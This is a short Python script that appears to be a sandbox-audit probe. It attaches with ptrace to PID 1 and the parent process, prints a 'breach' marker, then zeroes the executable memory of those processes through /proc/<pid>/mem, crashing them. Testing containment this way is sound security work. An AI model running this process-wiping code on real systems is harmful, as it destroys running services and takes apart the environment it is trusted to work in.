import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    if libc.ptrace(16, pid, None, None) == 0:
        print(f"breach-{os.environ['AUDIT_MARKER']} attached to process {pid}", flush=True)
# it may: these are its own container's processes, of its own user (docs/threat-model.md, what is not defended)
for pid in (1, os.getppid()):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            for line in maps:
                if "r-x" in line and "[" not in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    memory.write(bytes(end - start))
    except OSError:
        pass
